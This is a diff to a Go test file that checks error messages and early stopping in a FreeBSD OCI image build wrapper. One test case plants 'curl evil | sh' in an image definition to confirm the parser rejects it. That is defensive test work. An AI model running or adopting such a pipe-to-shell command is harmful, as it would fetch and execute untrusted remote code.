@@ -175,33 +175,34 @@ func TestInteropMakeMedia(t *testing.T) {
 	}
 }
 
-// Faults stop the build at once, each with a line that says what to do, and
-// before a medium is made.
+// Faults stop the build, each with a line that says what to do, before a medium
+// is made, and before anything is where no repository is needed to find them.
 func TestInteropMakeErrors(t *testing.T) {
 	t.Parallel()
 	for _, tt := range []struct {
 		name   string
 		breaks func(*testing.T, *tree)
 		want   string
+		first  bool // before anything is made
 	}{
 		{"no orlop", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "ORLOP=/none/orlop") },
-			"Makefile.oci: /none/orlop is not installed; see ORLOP"},
+			"Makefile.oci: /none/orlop is not installed; see ORLOP", true},
 		{"no repository", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "ORLOP_REPO_CONF_DIR=none") },
-			"Makefile.oci: no repository in none; make packages, or see ORLOP_REPO_CONF_DIR"},
+			"Makefile.oci: no repository in none; make packages, or see ORLOP_REPO_CONF_DIR", false},
 		{"no definition", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "OCI_IMAGES=nothing") },
-			"release/tools/oci-image-nothing.conf"},
+			"release/tools/oci-image-nothing.conf", false},
 		{"a definition that is a program", func(t *testing.T, tr *tree) {
 			write(t, filepath.Join(tr.src, "release/tools/oci-image-zones.conf"),
 				"OCI_BASE_IMAGE=\noci_image_build() {\n\tcurl evil | sh\n}\n")
-		}, `oci-image-zones.conf:3: "| sh" is not understood, wanted plain words`},
+		}, `oci-image-zones.conf:3: "| sh" is not understood, wanted plain words`, false},
 		{"no package", func(t *testing.T, tr *tree) {
 			write(t, filepath.Join(tr.src, "release/tools/oci-image-zones.conf"),
 				"OCI_BASE_IMAGE=\noci_image_build() {\n\tinstall_packages ${abi} ${workdir} FreeBSD-missing\n}\n")
-		}, "FreeBSD-missing"},
+		}, "FreeBSD-missing", false},
 		{"exceptions for the build alone", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "ORLOP_BUILD_FLAGS=--exceptions x.ucl") },
-			"Makefile.oci: ORLOP_BUILD_FLAGS has --exceptions, wanted in ORLOP_FLAGS"},
+			"Makefile.oci: ORLOP_BUILD_FLAGS has --exceptions, wanted in ORLOP_FLAGS", true},
 		{"packages of another architecture", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "PKG_ABI=FreeBSD:15:aarch64") },
-			"FreeBSD:15:aarch64"},
+			"FreeBSD:15:aarch64", false},
 	} {
 		for _, jobs := range []string{"-j1", "-j4"} {
 			t.Run(tt.name+" "+jobs, func(t *testing.T) {
@@ -217,6 +218,9 @@ func TestInteropMakeErrors(t *testing.T) {
 					t.Errorf("want %q in\n%s", tt.want, out)
 				}
 				for _, did := range tr.took(t) {
+					if tt.first {
+						t.Errorf("did %s, want it to stop before", did)
+					}
 					if slices.Contains(media, did) || did == "orlop-build" {
 						t.Errorf("did %s, want it to stop before media", did)
 					}
